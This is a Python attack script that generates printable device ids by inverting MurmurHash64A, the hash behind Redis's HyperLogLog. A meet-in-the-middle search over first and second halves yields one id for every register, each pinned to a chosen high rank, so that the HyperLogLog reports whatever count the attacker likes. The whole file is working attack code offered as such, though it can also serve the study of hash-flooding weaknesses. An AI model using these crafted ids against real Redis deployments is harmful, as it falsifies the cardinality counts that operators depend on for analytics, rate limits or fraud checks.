"""Device ids that make a plain HyperLogLog of Redis answer what an attacker likes.

Its hash is MurmurHash64A with a public seed: the low 14 bits choose a register, which keeps the place of
the lowest set bit of the rest. Every step of the hash but the mixing of a block can be run backwards, so
an id of two halves can be made to meet in the middle: what the hash is after the first eight characters,
and what it must be before the last seven for a given register and rank. If the two differ by printable
characters only, these are the last seven.
"""

from collections import defaultdict
from collections.abc import Iterator
from string import ascii_lowercase, digits

SEED = 0xADC83B19
MULTIPLIER = 0xC6A4A7935BD1E995
UNMULTIPLIER = pow(MULTIPLIER, -1, 1 << 64)
MASK = (1 << 64) - 1
SHIFT = 47
REGISTERS = 1 << 14
RANK = 30
"""Of at most 51; it leaves 2**20 hashes to choose from for each register."""

ID_BYTES = 15
HEADS = 1 << 17
ALPHABET = (ascii_lowercase + digits)[:32].encode()

TAIL_KIND = 0xFF_C0_C0_C0_C0_C0_C0_C0
"""The tail has seven bytes, and of each the two highest bits choose letters of 0x40 to 0x7f."""
LETTERS = 0x00_40_40_40_40_40_40_40


def crafted_ids() -> list[str]:
    """One id for each register of a HyperLogLog, of printable characters; some seconds' work."""
    heads = heads_by_kind()
    return [crafted_id(register, heads) for register in range(REGISTERS)]


def heads_by_kind() -> dict[int, list[tuple[int, bytes]]]:
    """First halves, by the bits that a second half cannot change."""
    heads: dict[int, list[tuple[int, bytes]]] = defaultdict(list)
    for number in range(HEADS):
        head = bytes(ALPHABET[number >> shift & 31] for shift in (0, 5, 10, 15)) + b"0000"
        state = after_block(begin(ID_BYTES), head)
        heads[state & TAIL_KIND].append((state, head))
    return heads


def crafted_id(register: int, heads: dict[int, list[tuple[int, bytes]]]) -> str:
    for hashed in hashes_of(register):
        wanted = before_tail(hashed)
        for state, head in heads.get((wanted ^ LETTERS) & TAIL_KIND, ()):
            tail = (state ^ wanted).to_bytes(8, "little")[:7]
            if 0x7F not in tail:
                return (head + tail).decode()
    raise RuntimeError(f"there is no id for register {register}")


def hashes_of(register: int) -> Iterator[int]:
    """Hashes that fall into the register with the rank."""
    lowest = register | 1 << 14 + RANK - 1
    return (lowest | high << 14 + RANK for high in range(1 << 64 - 14 - RANK))


def begin(length: int) -> int:
    return SEED ^ length * MULTIPLIER & MASK


def after_block(state: int, block: bytes) -> int:
    key = int.from_bytes(block, "little") * MULTIPLIER & MASK
    key = (key ^ key >> SHIFT) * MULTIPLIER & MASK
    return (state ^ key) * MULTIPLIER & MASK


def before_tail(hashed: int) -> int:
    """What the last step turns into the hash once the tail is mixed in. `x ^ x >> 47` undoes itself."""
    state = hashed ^ hashed >> SHIFT
    state = state * UNMULTIPLIER & MASK
    return (state ^ state >> SHIFT) * UNMULTIPLIER & MASK


def murmur(text: bytes) -> int:
    """The hash itself, forwards."""
    state = begin(len(text))
    whole = len(text) // 8 * 8
    for at in range(0, whole, 8):
        state = after_block(state, text[at : at + 8])
    if tail := text[whole:]:
        state = (state ^ int.from_bytes(tail, "little")) * MULTIPLIER & MASK
    state = (state ^ state >> SHIFT) * MULTIPLIER & MASK
    return state ^ state >> SHIFT
